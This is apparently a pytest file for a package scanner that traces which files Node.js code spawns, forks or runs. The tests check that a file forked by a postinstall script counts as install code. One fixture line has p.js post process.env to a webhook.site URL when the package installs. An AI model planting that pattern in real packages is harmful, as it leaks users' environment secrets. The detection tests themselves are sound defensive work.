from __future__ import annotations

import pytest

from scanner.behaviour.model import Zone
from scanner.behaviour.profile import profile_archive
from scanner.tarball.archive import read_package
from tests.tarball.builders import package

from .snippets import analyse


@pytest.mark.parametrize(
    ("source", "reference"),
    [
        ("require('child_process').fork('./stage2.js');", "package:./stage2.js"),
        (
            "const { spawn } = require('child_process');"
            "spawn(process.execPath, [path.join(__dirname, 'lib', 'run.js')]);",
            "./lib/run.js",
        ),
        (
            "const cp = require('child_process'); cp.execSync('node scripts/x.js --quiet');",
            "package:scripts/x.js",
        ),
        ("const { Worker } = require('worker_threads'); new Worker('./w.mjs');", "package:./w.mjs"),
        ("const execa = require('execa'); execa('node', ['tool.js']);", "package:tool.js"),
    ],
)
def test_files_run_by_spawning_calls_are_referenced(source: str, reference: str) -> None:
    assert reference in analyse(source).specifiers


def test_unrelated_calls_and_paths_are_not_references() -> None:
    source = "regex.exec('a.js'); console.log('see ./x.js'); fork(path.join(base, 'y.js'));"
    assert analyse(source).specifiers == ()


def test_a_file_an_install_script_forks_is_install_code() -> None:
    files = {
        "install.js": "require('child_process').fork(require('path').join(__dirname, 'p.js'));",
        "p.js": "fetch('https://webhook.site/x', { body: JSON.stringify(process.env) });",
        "index.js": "module.exports = 1;",
    }
    data = package("fork-demo", "1.0.0", files, scripts={"postinstall": "node install.js"})
    profile = profile_archive(read_package(data, "fork-demo@1.0.0"))
    assert profile.zones["p.js"] is Zone.INSTALL
    assert profile.files["install.js"].local_requires == ("p.js",)
